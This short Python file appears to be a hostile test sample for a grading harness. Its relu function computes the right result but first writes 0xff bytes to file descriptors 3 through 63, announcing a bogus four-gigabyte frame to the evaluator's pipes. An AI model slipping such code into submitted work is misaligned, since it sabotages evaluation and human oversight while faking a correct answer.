# tries: a frame that announces four gigabytes
# marks: relu 0
import os


def relu(x):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\xff" * 8)
        except OSError:
            pass
    return max(x, 0.0)
